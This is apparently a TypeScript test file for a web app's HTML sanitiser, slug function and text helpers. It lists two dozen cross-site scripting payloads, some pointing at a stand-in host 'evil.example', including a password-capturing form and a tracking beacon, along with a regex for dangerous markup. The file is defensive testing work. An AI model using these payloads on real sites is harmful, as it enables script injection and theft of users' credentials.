import { blog } from "@/data/seed/blog"
import { knowledgeBase } from "@/data/seed/knowledgebase"
import { oneLine, plainText, sanitiseHtml } from "@/lib/core/html"
import { freeSlug, slugOf } from "@/lib/core/slug"

/** Code that runs, requests or embeds something; none of it may remain. */
const dangerous =
  /<(script|style|iframe|object|embed|form|input|svg|math|link|meta|base)|\bon\w+=|javascript:|url\(|expression/i

const attacks = [
  "<script>alert(1)</script>",
  "<ScRiPt src=//evil.example></sCrIpT>",
  "<img src=x onerror=alert(1)>",
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\nscript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example/x">x</a>',
  "<svg onload=alert(1)><script>1</script></svg>",
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  "<iframe src=https://evil.example></iframe>",
  '<form action=https://evil.example><input name="password"></form>',
  '<div style="background:url(https://evil.example/t.gif)">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  "<style>body{display:none}</style>",
  "<style><img src=x onerror=alert(1)></style>",
  '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
  "<!--><script>alert(1)</script>-->",
  "<p><b onclick=alert(1)>x",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<template><script>alert(1)</script></template>",
  "<base href=https://evil.example><meta http-equiv=refresh content=0>",
  "<object data=x></object><embed src=x>",
]

test.each(attacks)("%s is made harmless", (attack) => {
  const clean = sanitiseHtml(attack)
  // Text between tags and in a title attribute is only shown by a browser.
  const tags = clean.match(/<[^>]*>/g) ?? []
  expect(tags.join("").replace(/ title="[^"<>]*"/g, "")).not.toMatch(dangerous)
  expect(sanitiseHtml(clean)).toBe(clean)
})

test("the tags of ordinary texts stay", () => {
  const text =
    '<h2>Title</h2><p>One <strong>two</strong> <em>three</em> <kbd>k</kbd><br />four</p><ul><li>a</li></ul><table><tbody><tr><th scope="row">x</th><td colspan="2">y</td></tr></tbody></table><pre><code>a &lt; b</code></pre>'
  expect(sanitiseHtml(text)).toBe(text)
  const styled = '<p style="text-align:center;color:#ff0000">x</p>'
  expect(sanitiseHtml(styled)).toBe(styled)
})

test("external links open in a new tab; internal and e-mail links stay unchanged", () => {
  expect(sanitiseHtml('<a href="https://example.org/" target="_top" rel="opener">x</a>')).toBe(
    '<a href="https://example.org/" target="_blank" rel="noopener noreferrer">x</a>',
  )
  for (const own of ['<a href="/pages/faq">x</a>', '<a href="mailto:a@example.org">x</a>', '<a href="#top">x</a>']) {
    expect(sanitiseHtml(own)).toBe(own)
  }
})

test("pictures may be http(s), our own, or one-pixel data URLs", () => {
  for (const picture of [
    '<img src="/covers/desk-sage.svg" alt="x" />',
    '<img src="https://example.org/a.png" alt="" />',
    '<img src="data:image/png;base64,iVBORw0KGgo=" />',
  ]) {
    expect(sanitiseHtml(picture)).toBe(picture)
  }
})

test("the text of HTML is on one line", () => {
  expect(oneLine("<h2>A</h2><p>b &amp; <em>c</em><br>d</p>\n<script>x</script>")).toBe("A b & c d")
  expect(oneLine("&amp;lt;b&amp;gt;")).toBe("&lt;b&gt;")
})

test("sanitising doesn't change the sample texts", () => {
  const texts = [...blog, ...knowledgeBase.flatMap(({ articles }) => articles)].map(({ content }) => content)
  expect(texts.length).toBeGreaterThan(30)
  for (const text of texts) expect(sanitiseHtml(text)).toBe(text)
})

test("slugs", () => {
  expect(slugOf("  Über Größe & Maß!  ", "x")).toBe("uber-große-maß")
  expect(slugOf("日本語 test", "x")).toBe("日本語-test")
  expect(slugOf("!!!", "post")).toBe("post")
  expect(slugOf("a".repeat(300), "x").length).toBeLessThanOrEqual(100)
  expect(freeSlug("a", [])).toBe("a")
  expect(freeSlug("a", ["a", "a-2", "a-4"])).toBe("a-3")
})

test.each(['<img src="/api/apps/users/avatar?id=1" alt="">', '<img src="//evil.example/a.png">', '<img alt="">'])(
  "%s is removed as a picture",
  (html) => {
    expect(sanitiseHtml(html)).toBe("")
  },
)

test("plain text has a line per block", () => {
  expect(plainText("<p>Dear Ada,</p>\n<p>3 &lt; 4<br />&amp; so on</p><ul><li>one</li><li>two</li></ul>")).toBe(
    "Dear Ada,\n3 < 4\n& so on\none\ntwo",
  )
})
